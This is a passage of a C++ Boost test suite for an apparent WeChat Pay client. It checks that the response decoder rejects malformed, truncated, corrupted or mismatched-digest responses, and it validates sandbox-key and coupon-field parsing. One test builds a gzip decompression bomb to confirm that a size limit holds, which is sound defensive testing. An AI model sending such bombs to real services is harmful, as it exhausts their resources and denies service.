      "<xml><return_code>FAIL</return_code><return_msg>No Bill Exist</return_msg><error_code>20002</error_code></xml>";
  for (const auto& body :
       {failure, codec::gzip(failure), "\xEF\xBB\xBF" + failure, "\r\n" + failure, "<?xml version=\"1.0\"?>" + failure}) {
    const auto error = errorOf([&] { (void)read(body); });
    BOOST_TEST(toString(error.errc()) == "rejected", error.what());
    BOOST_TEST(error.errCode() == "20002");
  }
  const std::string html = "<html><body>502</body></html>";
  for (const auto& body : {html, codec::gzip(html), " \n" + html, "\xEF\xBB\xBF<!DOCTYPE html>" + html,
                           std::string{"<?xml version=\"1.0\"?><html/>"}, std::string{"<xml>"}, std::string{"<xml/>"}}) {
    expectError(Errc::badResponse, "", [&] { (void)read(body); });
  }
  const auto zipped = codec::gzip(bill);
  for (std::size_t size = 2; size < zipped.size(); ++size)
    expectError(Errc::badResponse, "", [&] { (void)read(zipped.substr(0, size)); });
  expectError(Errc::badResponse, "gzip", [&] { (void)read(zipped + "x"); });
  expectError(Errc::badResponse, "gzip", [&] { (void)read(zipped + zipped); });
  auto damaged = zipped;
  damaged[damaged.size() - 5] = static_cast<char>(damaged[damaged.size() - 5] ^ 1);
  expectError(Errc::badResponse, "gzip", [&] { (void)read(damaged); });
  expectError(Errc::badResponse, "UTF-8", [&] { (void)read("\xBD\xBB\xD2\xD7"); });
  expectError(Errc::badResponse, "UTF-8", [&] { (void)read("PK\x03\x04\xFF\xFE"); });
  expectError(Errc::badResponse, "Digest", [&] { (void)read(bill, {{"Digest", "SHA=" + std::string(40, '0')}}); });
  expectError(Errc::badResponse, "Digest", [&] {
    (void)read(bill.substr(0, bill.size() - 2), {{"digest", "SHA=" + codec::toLowerHex(crypto::sha1(bill))}});
  });
  BOOST_TEST(read(bill, {{"digest", "SHA=" + codec::toLowerHex(crypto::sha1(bill))}}) == bill);
  expectError(Errc::httpStatus, "500", [&] {
    (void)weixin::decode(weixinSettings(), DownloadBillRequest{}, HttpResponse{500, {}, bill});
  });
}

BOOST_AUTO_TEST_CASE(a_gzip_bomb_stops_at_the_limit) {
  // 300 MiB of zeros in 300 KB.
  const auto bomb = codec::gzip(std::string(300u << 20U, 'a'));
  BOOST_TEST(bomb.size() < (1u << 20U));
  expectError(Errc::badResponse, "more than", [&] { (void)weixin::decode(weixinSettings(), DownloadBillRequest{}, ok(bomb)); });
}

BOOST_AUTO_TEST_CASE(sandbox_keys) {
  const auto read = [](const Wire& fields) { return weixin::decodeSandboxKey(weixinSettings(), ok(xmlOf(fields))); };
  BOOST_TEST(read({{"return_code", "SUCCESS"}, {"sandbox_signkey", "k"}}) == "k");
  expectError(Errc::badResponse, "sandbox_signkey", [&] { (void)read({{"return_code", "SUCCESS"}}); });
  expectError(Errc::badResponse, "sandbox_signkey", [&] { (void)read({{"return_code", "SUCCESS"}, {"sandbox_signkey", ""}}); });
  expectError(Errc::identityMismatch, "mch_id", [&] {
    (void)read({{"return_code", "SUCCESS"}, {"mch_id", "1"}, {"sandbox_signkey", "k"}});
  });
  expectError(Errc::rejected, "bad", [&] { (void)read({{"return_code", "FAIL"}, {"retmsg", "bad"}}); });
}

BOOST_AUTO_TEST_CASE(numbered_fields) {
  const auto read = [](const Wire& more) {
    auto fields = queried();
    fields.insert(fields.end(), more.begin(), more.end());
    return Json::parse(readAnswer<OrderQueryRequest>(signedXml(fields)));
  };
  const auto coupons = [](const Json& result) { return result.find("couponList")->array()->size(); };
  BOOST_TEST(coupons(read({{"coupon_id_0", "a"}, {"coupon_fee_0", "1"}})) == 1u);
  BOOST_TEST(coupons(read({{"coupon_id_9999", "a"}})) == 1u);  // not ten thousand
  for (const char* name : {"coupon_id_00", "coupon_id_-1", "coupon_id_99999999999999999999", "coupon_id_", "coupon_id_0_",
                           "coupon_id_1e3", "coupon_id_10000"}) {
    BOOST_TEST_CONTEXT(name) { BOOST_TEST(coupons(read({{name, "a"}})) == 0u); }
  }
  Wire many;
  for (int at = 0; at < 4000; ++at) many.emplace_back("coupon_id_" + std::to_string(at), "a");
  BOOST_TEST(coupons(read(many)) == 4000u);
}

BOOST_AUTO_TEST_SUITE_END()
